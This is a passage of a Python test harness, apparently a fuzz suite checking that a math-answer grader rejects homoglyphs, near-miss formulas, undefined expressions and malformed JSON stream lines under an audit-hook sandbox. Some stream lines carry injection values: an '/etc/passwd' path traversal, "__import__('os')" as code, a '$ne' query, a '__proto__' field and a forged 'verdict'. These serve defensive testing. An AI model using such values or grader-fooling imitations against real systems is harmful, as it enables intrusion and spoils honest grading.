    Row("multiple", "\u0430, \u0441", "Cyrillic letters for both"),
    Row("ordering", "\u0440, q, r, s", "a Cyrillic letter for p"),
    Row("word", "\u0410dam", "a Cyrillic letter for A"),
    Row("word", "adam", "a small letter where capitals matter"),
    Row("word", "Ad\u00adam", "a soft hyphen"),
    Row("zero", "\u03bf", "a Greek omicron for zero"),
    Row("zero", "O", "a letter for zero"),
    Row("zero", "\u06f5", "a Persian digit that looks like a zero"),
    Row("one", "l", "a letter for one"),
    Row("one", "\u0661", "an Arabic digit"),
    Row("one", "\u2460", "a circled digit"),
    Row("one", "\u2160", "a Roman numeral"),
    Row("one", "\u4e00", "a Chinese numeral"),
    Row("one", "\U0001f51f", "a pictograph"),
    Row("integer", "\u30fc12", "a Japanese long vowel for a minus"),
    Row("integer", "\u4e0012", "a Chinese one for a minus"),
    Row("linear", "\u0391 x", "a Greek capital for A"),
    Row("linear", "\u0410 x", "a Cyrillic capital for A"),
    Row("matching", "\u0456: write, f: keep, o: show", "a Cyrillic letter for i"),
    Row("gaussian", "\u039d(mu, sigma^2)", "a Greek capital for N"),
    Row("*", "\ufeff", "a mark of byte order"),
    Row("*", "\ufffd", "a replacement character"),
    Row("*", "\uffff", "no character"),
    Row("*", "\U0010ffff", "the last character"),
    Row("*", "\u2028\u2029", "separators of lines and paragraphs"),
    Row("*", "\U0001d7d8\U0001d7d9\U0001f600", "digits of mathematics and a face"),
    Row("*", "ﷺ", "a character that becomes eighteen under NFKC"),
    Row("*", many("ﷺ", 2000), "two thousand of them"),
]

IMITATIONS = [
    Row("x", "x + 1e-300", "off by less than any float shows"),
    Row("x", "x*(1 + 1e-40)", "off by less than double precision"),
    Row("x", "x*(1 + 1e-300)", "off by a relative 1e-300"),
    Row("x", "x + exp(-10000)", "off by less than any sampled ball"),
    Row("x", "x + exp(-exp(20))", "off by less than any precision"),
    Row("x", "x + 10^-399", "off by the smallest numeral"),
    Row("x", "x + sin(10^-200)", "off by a small sine"),
    Row("x", "x + 1/Gamma(1000)", "off by an inverse factorial"),
    Row("x", "(x^3 + x*1e-60)/x^2", "off by little, except far away"),
    Row("x", "x + floor(x/10^9)*0 + 1e-100", "off behind a term that is zero"),
    Row("x", "|x|", "right where x is positive"),
    Row("x", "sqrt(x^2)", "right where x is positive"),
    Row("x", "exp(ln(x)) + 1e-50", "off by little where it is defined"),
    Row("x", "max(x, -10^6)", "right but far to the left"),
    Row("x", "min(x, 10^6)", "right but far to the right"),
    Row("x", "asin(sin(x))", "right near zero"),
    Row("x", "atan(tan(x))", "right near zero"),
    Row("x", "sin(x)", "right to the first order"),
    Row("x", "x + floor(1/(1 + x^2)/2)*7 + 1e-80", "whole parts that vanish, and a rest that does not"),
    Row("x", "x*floor(1 + exp(-x^2)/4) + 1e-90", "a whole part that is one, and a rest that is not zero"),
    Row("x", "x + (tanh(10^3 (x^2 + 1)) - 1)", "a difference of saturated functions"),
    Row("x", "x + erf(100 + x^2) - 1", "a tail that no float shows"),
    Row("x", "x + exp(-x^2 - 10000)", "a bump that no float shows"),
    Row("x", "x + 0.1 + 0.2 - 0.3 + 1e-59", "a decimal that no float shows"),
    Row("x", "x + sqrt(2)^2 - 2 + 1e-100", "a difference that is exact only in appearance"),
    Row("x", "y", "another name"),
    Row("x", "0", "nothing"),
    Row("x", "x + y - y*(1 + 1e-30)", "another variable, nearly gone"),
    Row("x", "X", "a capital letter"),
    Row("positive", "x + 1/x*10^-200", "off by little everywhere"),
    Row("x", "x + relu(1 - |x - 123.456|)", "a bump away from the origin"),
    Row("x", "x + relu(1 - |x + 123.456|)", "a bump on the other side"),
    Row("x", "x + relu(|x| - 1000)", "a bend away from the origin"),
    Row("count", "floor(n/2) + relu(n - 1000)", "right up to a thousand"),
    Row("count", "floor(n/2) + 0^|n - 987|", "right but for one number"),
    Row("constant", "tanh(1000)", "one to 868 digits"),
    Row("constant", "erf(1000)", "one to more digits than that"),
    Row("constant", "1 - exp(-exp(9))", "one to thousands of digits"),
    Row("constant", "0.9999999999999999999999999999999999999999", "one to forty digits"),
    Row("constant", "sigmoid(400)", "one to 173 digits"),
    Row("constant", "cos(10^-200)", "one to four hundred digits"),
    Row("constant", "sin(x)^2 + cos(x)^2 + 1e-70", "the identity, and something more"),
    Row("constant", "2^(10^-300)", "one to three hundred digits"),
    Row("constant", "x^(1e-60)", "one to sixty digits where x is positive"),
    Row("constant", "floor(1 + 1/(1 + x^2)) + 1e-30", "a whole part that is one almost everywhere"),
    Row("constant", "exp(x - x - 1e-99)", "an exponent that is nearly nothing"),
    Row("constant", "(1 + 1e-30)^(1e-30)", "one to sixty digits"),
    Row("constant", "sign(x)^2 + 1e-45", "one where x is not zero"),
    Row("root", "|x| + 1/(2|x|)", "right far away"),
    Row("root", "sqrt(x^2 + 1 + 1e-40)", "off by little"),
    Row("root", "(x^2 + 1)^0.5000000000000000000000000000000000000000001", "off by an exponent"),
    Row("log", "ln(x + 1e-40)", "off by little"),
    Row("log", "log10(x)*2.302585092994045684017991454684364208", "a decimal for a constant"),
    Row("relu", "ln(1 + exp(1000 x))/1000", "nearly the same curve"),
    Row("relu", "min(max(x, 0), 6)", "right to six"),
    Row("relu", "min(max(x, 0), 10^5)", "right to a hundred thousand"),
    Row("relu", "max(x, -1e-30)", "off by little on the left"),
    Row("relu", "max(x, 0) + 1e-60", "off by little everywhere"),
    Row("relu", "x sigmoid(10^9 x)", "nearly the same curve"),
    Row("sigmoid", "(1 + tanh(x/2 + 1e-50))/2", "off by little"),
    Row("sigmoid", "min(1, max(0, x/4 + 1/2))", "nearly the same curve"),
    Row("sigmoid", "Phi(1.702 x)", "nearly the same curve"),
    Row("hinge", "0", "right up to a hundred"),
    Row("larger", "a", "right unless x is far more negative than a is positive"),
    Row("larger", "(1 + x)*ln(0.5)", "right only there"),
    Row("warps", "floor(n/64) + 1", "right but for multiples of 64"),
    Row("warps", "1", "right up to 64"),
    Row("warps", "floor((n + 64)/64)", "right but for multiples of 64"),
    Row("warps", "round(n/64 + 1/2)", "right but for odd multiples of 64"),
    Row("count", "n/2", "right for even numbers"),
    Row("count", "floor((n + 1)/2)", "right for even numbers"),
    Row("count", "floor(n/2 - 1e-30)", "right for odd numbers"),
    Row("count", "floor(n/2) + floor(n/10^6)", "right up to a million"),
    Row("count", "floor(n/2) + sin(pi n)/10^50 + 1e-70", "a term that is zero, and one that is not"),
    Row("number", "0.1255000001", "off by more than half a unit"),
    Row("number", "0.1244999999999999999999999999999999999999", "off by more than half a unit, by little"),
    Row("number", "1/8 + 1/1999", "off by more than half a unit"),
    Row("number", "0.1255 + 10^-399", "off by more than half a unit, by the smallest numeral"),
    Row("number", "0.1255 + exp(-9999)", "off by more than half a unit, by less than a ball shows"),
    Row("fraction", "-0.428571428571428571428571428571428571428571", "a decimal for a fraction"),
    Row("fraction", "-3/7 + 10^-399", "off by the smallest numeral"),
    Row("fraction", "-3/7 - exp(-9999)", "off by less than a ball shows"),
    Row("one", "tanh(1000)", "one to 868 digits"),
    Row("one", "1 - 10^-399", "one to 399 digits"),
    Row("one", "0.99999999999999999999", "one to twenty digits"),
    Row("one", "(pi^2)^(10^-300)", "one to three hundred digits"),
    Row("one", "sqrt(2)^2 + exp(-9999)", "a root that cancels, and something more"),
    Row("one", "floor(1.999999999999999999999999999999) + 1e-60", "a whole part, and something more"),
    Row("zero", "10^-399", "the smallest numeral"),
    Row("zero", "exp(-9999)", "less than a ball shows"),
    Row("zero", "exp(-exp(9))", "less than any ball shows"),
    Row("zero", "1/Gamma(1000)", "an inverse factorial"),
    Row("zero", "1 - tanh(1000)", "a difference of nearly equal ones"),
    Row("zero", "exp(pi sqrt(163)) - 262537412640768744", "Ramanujan's number"),
    Row("zero", "sin(10^300 pi + 10^-300)", "a sine next to its zero"),
    Row("zero", "sin(2017 * 2^(1/5)) + 1", "a sine next to its minimum"),
    Row("huge", "10^30 + 10^-30", "off by little beside a large value"),
    Row("huge", "1e30 - 1", "off by one in thirty digits"),
    Row("huge", "1000000000000000019884624838656", "the float for it"),
    Row("vector", "(1 + 1e-40, 1/2 + 1e-40, -3 - 1e-40)", "every entry nearly right"),
    Row("matrix", "[[1 + 1e-99, 2], [3, 4]]", "an entry nearly right"),
    Row("matrix", "[[1, 2, 3, 4]]", "the right entries in one row"),
    Row("set", "{1, 4, 9 + exp(-9999)}", "an entry nearly right"),
    Row("linear", "A x + 1e-40 x", "off by little"),
    Row("linear", "x A", "factors swapped, of shapes that do not fit"),
    Row("linear", "A^T x", "a transpose"),
    Row("linear", "(A + 1e-60 I) x", "off by little of the identity"),
    Row("loss", "E_q[ln p(x|z)] - KL(r||q)", "arguments swapped"),
    Row("loss", "E_q[ln p(z|x)] - KL(q||r)", "a condition swapped"),
    Row("loss", "E_q[ln p(x,z)] - KL(q||r)", "another sign between the arguments"),
    Row("loss", "E_q[ln p(x|z + 1e-30)] - KL(q||r)", "an argument nearly right"),
    Row("gaussian", "N(mu, sigma)", "a deviation for a variance"),
    Row("gaussian", "N(mu + 1e-40, sigma^2)", "a mean nearly right"),
    Row("gaussian", "M(mu, sigma^2)", "another distribution"),
    Row("x", "x + relu(1 - 10^6 |x - 17|)", "a bump that is narrower than the distance of any sample"),
    Row("x", "x + relu(1 - 10^9 |x y - 7|)", "a bump along a curve"),
    Row("x", "x + sign(x - y)^2 - 1", "a line where it is off"),
]

UNDEFINED = [
    Row("*", "0/0", "nothing over nothing"),
    Row("*", "1/0", "a division by zero"),
    Row("*", "1/0 - 1/0", "infinities that cancel"),
    Row("*", "0^0/0", "more of it"),
    Row("*", "inf - inf", "infinities that cancel"),
    Row("*", "∞/∞", "infinity over infinity"),
    Row("*", "0*inf", "zero times infinity"),
    Row("*", "ln(0)", "a logarithm of zero"),
    Row("*", "ln(-1)", "a logarithm of a negative number"),
    Row("*", "sqrt(-1)^2 + 2", "the root of a negative number, squared"),
    Row("*", "(-8)^(1/3)", "a root of a negative number"),
    Row("*", "(-1)!", "a factorial of a negative number"),
    Row("*", "asin(2)", "an arcsine outside its domain"),
    Row("*", "tan(pi/2)", "a pole"),
    Row("*", "mod(1, 0)", "a remainder of a division by zero"),
    Row("*", "log_1(2)", "a logarithm to base one"),
    Row("*", "log_{-2}(4)", "a logarithm to a negative base"),
    Row("*", "atanh(1)", "a pole"),
    Row("*", "1/(1 - 1 + 0*pi)", "a zero in disguise"),
    Row("*", "1/(sin(pi))", "a zero that no ball can tell from one"),
    Row("*", "1/(sqrt(2)^2 - 2)", "another"),
    Row("x", "ln(-1 - x^2)", "defined nowhere"),
    Row("x", "x + ln(-1 - x^2) - ln(-1 - x^2)", "the right value, defined nowhere"),
    Row("x", "x*sqrt(-1 - x^2)/sqrt(-1 - x^2)", "the same with a root"),
    Row("x", "x + 0*ln(-1 - x^2)", "the same with a zero"),
    Row("x", "x + 0/0", "the right value and no number"),
    Row("x", "x/(x - x)", "a division by zero"),
    Row("x", "x (x - x)/(x - x)", "a division by zero that cancels"),
    Row("x", "x + 1/sin(pi)*0", "a pole in disguise times zero"),
    Row("x", "x + asin(2 + x^2)*0", "outside its domain everywhere"),
    Row("log", "ln(x) + 0*ln(-x)", "defined nowhere, each half somewhere"),
    Row("log", "ln(x) + ln(-x) - ln(-x)", "the same with a difference"),
    Row("constant", "(x - x)/(x - x)", "nothing over nothing"),
    Row("constant", "x^0 * ln(-1 - x^2)^0", "no number to the power of zero"),
    Row("root", "sqrt(-1 - x^2)^2*(-1)*1/sqrt(x^2 + 1)*sqrt(-1)^2*(-1)", "roots of negative numbers that cancel"),
    Row("count", "floor(n/2)*n!/n! + 0*ln(-n)", "defined nowhere"),
    Row("vector", "(1/0, 1/2, -3)", "a pole as an entry"),
    Row("matrix", "[[1, 2], [3, 0/0]]", "no number as an entry"),
    Row("set", "{1, 4, 0/0}", "no number in a set"),
    Row("interval", "[0/0, 1)", "no number as an end point"),
    Row("interval", "[-∞, ∞]", "infinity included"),
    Row("linear", "(A - A)^{-1} x", "the inverse of nothing"),
    Row("linear", "(A - A)^{-1} (A - A) A x", "the inverse of nothing that cancels"),
    Row("linear", "A x / (A - A)", "a division by a matrix"),
]

LIMITS = [
    Row("positive", "min(x, 10^300)", "right but very far away"),
    Row("x", "x + floor(x^2/10^60)", "the same with a whole part"),
]
"""What is right as far as samples can tell, and is not: nobody types it by mistake."""

ROWS = [*CODE, *TOWERS, *SERIES, *SIZES, *TEX, *CHARACTERS, *IMITATIONS, *UNDEFINED]


class Line(NamedTuple):
    """What another program may send to the stream."""

    text: str | bytes | Recipe
    why: str

    @property
    def sent(self) -> bytes:
        """The line, without its end."""
        text = self.text() if callable(self.text) else self.text
        return text if isinstance(text, bytes) else text.encode()


KEY = '{"kind": "integer", "value": 12}'
STREAM = [
    Line("{", "JSON that ends early"),
    Line("[]", "a list"),
    Line("12", "a number"),
    Line("null", "null"),
    Line('"right"', "a text"),
    Line("{}", "nothing in it"),
    Line(f'{{"key": {KEY}}}', "no response"),
    Line('{"response": "12"}', "no key"),
    Line('{"key": null, "response": "12"}', "a key that is null"),
    Line('{"key": [], "response": "12"}', "a key that is a list"),
    Line('{"key": {}, "response": "12"}', "a key without a kind"),
    Line('{"key": {"kind": "__class__", "value": 12}, "response": "12"}', "a dunder for a kind"),
    Line('{"key": {"kind": "../../../etc/passwd"}, "response": "12"}', "a path for a kind"),
    Line('{"key": {"kind": "os", "value": 12}, "response": "12"}', "a module for a kind"),
    Line('{"key": {"kind": 1, "value": 12}, "response": "12"}', "a number for a kind"),
    Line('{"key": {"kind": ["integer"], "value": 12}, "response": "12"}', "a list for a kind"),
    Line('{"key": {"kind": "integer", "value": "__import__(\'os\')"}, "response": "12"}', "code for a value"),
    Line('{"key": {"kind": "integer", "value": 1e400}, "response": "12"}', "a value beyond every float"),
    Line('{"key": {"kind": "integer", "value": {"q": "1/0"}}, "response": "12"}', "a fraction without a value"),
    Line('{"key": {"kind": "number", "value": {"d": "NaN"}}, "response": "12"}', "a decimal that is no number"),
    Line('{"key": {"kind": "number", "value": {"d": "1e999999999"}, "digits": 3}, "response": "12"}', "a huge decimal"),
    Line('{"key": {"kind": "formula", "value": "9^9^9^9"}, "response": "12"}', "a key that is a tower"),
    Line('{"key": {"kind": "formula", "value": "x"}, "response": "x"}', "a key with an undeclared name"),
    Line('{"key": {"kind": "formula", "value": "x", "variables": {"x": "evil"}}, "response": "x"}', "no such domain"),
    Line('{"key": {"kind": "formula", "value": "A", "variables": {"A": "matrix 9x9"}}, "response": "A"}', "too large"),
    Line(f'{{"key": {KEY}, "response": null}}', "a response that is null"),
    Line(f'{{"key": {KEY}, "response": 12}}', "a response that is a number"),
    Line(f'{{"key": {KEY}, "response": ["12"]}}', "a response that is a list"),
    Line(f'{{"key": {KEY}, "response": {{"$ne": 0}}}}', "a response that is a query"),
    Line(f'{{"key": {KEY}, "response": "\\ud800"}}', "half a surrogate, escaped"),
    Line(f'{{"key": {KEY}, "response": "\\u0000"}}', "NUL, escaped"),
    Line(f'{{"key": {KEY}, "response": "12\\u202e"}}', "an override, escaped"),
    Line(f'{{"key": {KEY}, "response": "13", "response": "14"}}', "a field twice"),
    Line(f'{{"key": {KEY}, "response": "13", "__proto__": {{"verdict": "right"}}}}', "a field of JavaScript"),
    Line(f'{{"key": {KEY}, "response": "13", "verdict": "right"}}', "a verdict"),
    Line(f'{{"key": {KEY}, "response": NaN}}', "no number"),
    Line(f"{{'key': {KEY}, 'response': '12'}}", "Python for JSON"),
    Line(f'{{"key": {KEY}, "response": "12"}} {{', "more than one value"),
    Line(f'/* */ {{"key": {KEY}, "response": "12"}}', "a comment"),
    Line(b"\xff\xfe{", "bytes that are no UTF-8"),
    Line(b'{"key": {"kind": "integer", "value": 12}, "response": "\xff"}', "a response that is no UTF-8"),
    Line(b"\0", "NUL"),
    Line(nested("[", "1", "]", 100_000), "lists, a hundred thousand deep"),
    Line(nested('{"key":', "1", "}", 100_000), "keys, a hundred thousand deep"),
    Line(many("9", MEGA, f'{{"key": {KEY}, "response": "', '"}'), "a response of a megabyte"),
    Line(many("9", MEGA, '{"key": {"kind": "integer", "value": ', '}, "response": "12"}'), "a value of a megabyte"),
    Line(many('"a",', 100_000, '{"key": {"kind": "ordering", "value": [', '"a"]}, "response": "a"}'), "one id for all"),
]
"""Lines that may not stop the stream, none of which is right."""


def key(name: str) -> Key:
    """The key of a name."""
    return answers.read_key(exact(KEYS[name]))


def cases() -> Iterator[tuple[str, Row]]:
    """Every row with the name of the key that it is typed for."""
    for row in ROWS:
        for name in KEYS if row.key == "*" else [row.key]:
            yield name, row


def load() -> None:
    """Import all that grading may import when it first needs it."""
    for package in (answers, notation, expr):
        for module in walk_packages(package.__path__, f"{package.__name__}."):
            import_module(module.name)


def is_harmless(event: str, arguments: tuple[Any, ...]) -> bool:
    """Whether Python only looks at an object of its own, or flint, as Cython does, makes a frame for a traceback."""
    match event, arguments:
        case "compile", (b"_getframe()", str(file)):
            return file.startswith("flint/")
        case "code.__new__", (_, str(file), *_):
            return file.startswith("flint/")
        case "exec", (code,):
            return bool(code.co_filename.startswith("flint/") and code.co_names == ("_getframe",))
    return event in ("builtins.id", "sys._getframe")


class Watch:
    """Refuses whatever Python reports to its audit hooks while it is on, and keeps a list: files, imports, programs."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[str] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, arguments: tuple[Any, ...]) -> None:
        if self.on and not is_harmless(event, arguments):
            self.seen.append(f"{event} {arguments!r:.80}")
            raise PermissionError(event)


def peak() -> float:
    """The most memory that this program ever had, in MiB."""
    status = Path("/proc/self/status")
    if status.exists():  # what getrusage tells includes the program that started this one
        line = next(line for line in status.read_text().splitlines() if line.startswith("VmHWM"))
        return int(line.split()[1]) / 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / (1 << 20)


def main() -> None:
    """Grade every row and write what became of it, one line of JSON each; the last one says how much memory it took."""
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESSES, ADDRESSES))
    resource.setrlimit(resource.RLIMIT_CPU, (PATIENCE, PATIENCE))
    load()
    keys = {name: key(name) for name in KEYS}
    for warm in keys.values():  # whatever is loaded at first use is loaded here
        for text in (*warm.notations(warm.right)[:2], *warm.wrong()[:2], *warm.junk()[:2]):
            answers.grade(warm, text)
    watch = Watch()
    for name, row in cases():
        text = row.typed
        sys.stdout.write(json.dumps({"key": name, "why": row.why, "typed": ascii(text[:60]), "length": len(text)}))
        sys.stdout.flush()
        watch.seen.clear()
        watch.on = True
        start, began = process_time(), perf_counter()
        try:
            verdict, error = answers.grade(keys[name], text), ""
        except BaseException as raised:
            verdict, error = None, repr(raised)[:200]
        seconds, waited = process_time() - start, perf_counter() - began
        watch.on = False
        became = {
            "error": error,
            "seconds": seconds,
            "waited": waited,
            "events": watch.seen,
            "verdict": verdict and plain(verdict),
        }
        sys.stdout.write("\t" + json.dumps(became) + "\n")
    sys.stdout.write(json.dumps({"peak": peak()}) + "\n")


if __name__ == "__main__":
    main()
